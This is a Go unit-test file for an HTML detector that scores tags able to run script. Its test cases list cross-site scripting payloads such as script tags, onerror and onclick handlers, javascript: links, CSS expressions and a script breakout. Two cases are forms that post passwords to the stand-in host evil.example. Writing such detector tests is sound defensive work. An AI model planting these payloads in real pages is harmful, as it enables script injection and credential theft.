package html

import "testing"

func TestTagFindsScriptRunningTags(t *testing.T) {
	for _, c := range []struct {
		name  string
		s     string
		off   int
		score int
	}{
		{"script element", "x<script>alert(1)</script>", 1, 9},
		{"iframe without attributes", "<iframe>", 0, 9},
		{"meta refresh", `<meta http-equiv="refresh" content="0">`, 0, 9},
		{"event handler", "<img src=x onerror=alert(1)>", 0, 8},
		{"handler in a later tag of a run", "<a<a<b onclick=x>", 4, 8},
		{"script url in href", `<a href="javascript:alert(1)">`, 0, 8},
		{"css expression", `<div style="width:expression(alert(1))">`, 0, 7},
		{"bold text", "<b>bold</b>", 0, 0},
		// an end tag runs nothing; what a breakout puts after it does
		{"end tag in a sentence", "A special end tag (`</script>`) has been seen", 0, 0},
		{"end tag with attributes", "</a onclick=alert(1)>", 0, 0},
		{"breakout then a script", "</script><script>alert(1)</script>", 9, 9},
		{"link to a page", `<a href="/home">home</a>`, 0, 0},
		{"form posting to another site", `<form action=//evil.example/login><input type=password name=p></form>`, 0, 7},
		{"form posting to another site, quoted", `<form method="post" action="https://evil.example/x">`, 0, 7},
		{"form posting to the page itself", `<form action="/login" method="post">`, 0, 0},
		{"a button's formaction elsewhere", `<form data-action="https://x.example">`, 0, 0},
		{"comparison", "a < b and c > d", 0, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			if off, score := Tag(c.s); off != c.off || score != c.score {
				t.Errorf("Tag(%q) = %d, %d; want %d, %d", c.s, off, score, c.off, c.score)
			}
		})
	}
}

func TestElementOpen(t *testing.T) {
	for _, c := range []struct {
		s    string
		want bool
	}{
		{"<img src=x>", true},
		{"<svg/onload=x>", true},
		{"<script>", true},
		{"x<a<a<b >", true},
		{"a <b", false},
		{"1 < 2", false},
		{"<3 you", false},
		{"no markup", false},
	} {
		if got := ElementOpen(c.s); got != c.want {
			t.Errorf("ElementOpen(%q) = %v, want %v", c.s, got, c.want)
		}
	}
}

func TestLegacyTag(t *testing.T) {
	for _, c := range []struct {
		s    string
		want int
	}{
		{"<noscript#", 0},
		{"x<svg/", 1},
		{"<style>", 0},
		{"<styles>", -1},
		{"<b>", -1},
		{"a < b", -1},
	} {
		if got := LegacyTag(c.s); got != c.want {
			t.Errorf("LegacyTag(%q) = %d, want %d", c.s, got, c.want)
		}
	}
}
